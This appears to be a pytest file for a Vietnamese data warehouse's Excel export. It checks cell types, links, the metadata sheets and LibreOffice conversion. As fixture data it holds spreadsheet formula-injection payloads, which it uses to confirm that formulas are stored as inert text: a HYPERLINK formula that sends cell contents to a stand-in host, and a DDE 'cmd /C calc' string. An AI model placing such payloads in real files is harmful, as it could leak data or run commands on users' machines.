"""The workbook as Excel's readers see it: openpyxl always, LibreOffice where it is installed."""

import csv
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from tests.warehouse import batches
from warehouse import export_xlsx
from warehouse.connection import open_warehouse
from warehouse.export import export
from warehouse.load import load_batch
from warehouse.selection import Filters

FORMULA = '=HYPERLINK("http://evil.test?"&A1,"Bấm vào đây")'
SOFFICE = shutil.which("soffice")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse of two scores, whose pages have a formula and a very long sentence."""
    path = tmp_path_factory.mktemp("hostile") / "warehouse.duckdb"
    rows = batches.joined(
        batches.common(),
        batches.article(1, title=FORMULA),
        batches.article(2, title="@SUM(1+1)*cmd|' /C calc'!A0", published_at=batches.START),
    )
    with open_warehouse(path) as con:
        load_batch(con, rows)
        con.execute("UPDATE scores SET subject = '+1+1', component = '=1+1', value = -0.5")
    return path


@pytest.fixture(scope="module")
def book(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("book")
    (folder / "archive" / "binhdinh").mkdir(parents=True)
    (folder / "archive" / "binhdinh" / "run-1.warc.gz").write_bytes(b"")
    out = folder / "điểm.xlsx"
    assert export(hostile, Filters(kinds=("score",)), "xlsx", out, archive=folder / "archive") == 2
    return out


def records(sheet: Worksheet) -> Iterator[dict[str, object]]:
    head, *rows = sheet.iter_rows(values_only=True)
    return (dict(zip(map(str, head), row, strict=True)) for row in rows)


def test_cells_are_typed_and_nothing_is_a_formula(book: Path) -> None:
    opened = openpyxl.load_workbook(book)
    assert opened.sheetnames == ["Dữ liệu", "Từ điển cột", "Phương pháp"]
    sheet = opened["Dữ liệu"]
    first = next(records(sheet))
    assert (first["value"], first["scale_max"], first["warc_offset"]) == (-0.5, 100, 1000)
    assert first["published_at"] == datetime(2024, 2, 29, 9)  # noqa: DTZ001 - Excel knows no zones
    assert first["sentence"] == batches.TEXT.split("\n", maxsplit=1)[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d", "b"}
    assert (first["title"], first["component"], first["subject"]) == (FORMULA, "=1+1", "+1+1")
    with zipfile.ZipFile(book) as packed:
        parts = [packed.read(name) for name in packed.namelist() if "worksheets/sheet" in name]
    assert not any(b"<f>" in part or b"<f " in part for part in parts)


def test_the_header_is_frozen_filtered_and_links_lead_to_page_and_archive(book: Path) -> None:
    sheet = openpyxl.load_workbook(book)["Dữ liệu"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref.split(":")[0]) == ("B2", "A1")
    assert sheet.column_dimensions["A"].width > 10
    links = [cell.hyperlink for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    targets = {link.target.replace("\\", "/") for link in links}
    assert targets == {
        "http://binhdinh.test/tin-tuc/bai-1.html",
        "http://binhdinh.test/tin-tuc/bai-2.html",
        "archive/binhdinh/run-1.warc.gz",
    }


def test_two_sheets_tell_the_columns_and_the_method(book: Path) -> None:
    opened = openpyxl.load_workbook(book)
    told = {str(row["Cột"]): row for row in records(opened["Từ điển cột"])}
    assert list(told) == [cell.value for cell in opened["Dữ liệu"][1]]
    assert all(row["Ý nghĩa (như từ điển dữ liệu)"] and row["Tên tiếng Việt"] for row in told.values())
    method = {str(row["Mục"]): str(row["Nội dung"]) for row in records(opened["Phương pháp"])}
    assert (method["Số dòng"], method["Lọc --kind"], method["Phiên bản bộ đọc"]) == ("2", "score", "0.1.0")
    assert "điều 15" in method["Quyền sử dụng"]
    assert method["Bản dữ liệu"] in method["Cách dẫn nguồn"]


def test_rows_that_do_not_fit_go_on_in_a_further_sheet(
    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_xlsx, "MOST_ROWS", 1)
    out = tmp_path / "scores.xlsx"
    export(hostile, Filters(kinds=("score",)), "xlsx", out)
    opened = openpyxl.load_workbook(out)
    assert opened.sheetnames[:2] == ["Dữ liệu", "Dữ liệu 2"]
    assert [opened[name].max_row for name in opened.sheetnames[:2]] == [2, 2]
    assert opened["Dữ liệu 2"]["A1"].value == "evidence_id"


def test_what_excel_cannot_hold_is_cut_or_left_unlinked_and_told(
    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_xlsx, "_LONGEST", 50)
    monkeypatch.setattr(export_xlsx, "MOST_LINKS", 1)
    out = tmp_path / "scores.xlsx"
    export(hostile, Filters(kinds=("score",)), "xlsx", out)
    opened = openpyxl.load_workbook(out)
    sentences = [str(row["sentence"]) for row in records(opened["Dữ liệu"])]
    assert [(len(one), one.endswith(" … [cắt bớt]")) for one in sentences] == [(50, True)] * 2
    method = {str(row["Mục"]): str(row["Nội dung"]) for row in records(opened["Phương pháp"])}
    assert method["Ô bị cắt"].startswith("2 ô")
    assert method["Liên kết"].startswith("1 địa chỉ")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed: apt-get install libreoffice-calc")
def test_libreoffice_opens_it_in_vietnamese_and_runs_nothing(book: Path, tmp_path: Path) -> None:
    command = [
        str(SOFFICE),
        f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
        "--headless",
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1",
        "--outdir",
        str(tmp_path),
        str(book),
    ]
    done = subprocess.run(command, capture_output=True, check=False, timeout=150)
    written = [path for path in tmp_path.iterdir() if path.suffix == ".csv"]
    assert len(written) == 1, done.stderr
    with written[0].open(encoding="utf-8", newline="") as stream:
        first = next(csv.DictReader(stream))
    assert first["sentence"] == batches.TEXT.split("\n", maxsplit=1)[0]
    assert (first["title"], first["component"], first["subject"]) == (FORMULA, "=1+1", "+1+1")
    assert first["value"] == "-0.5"
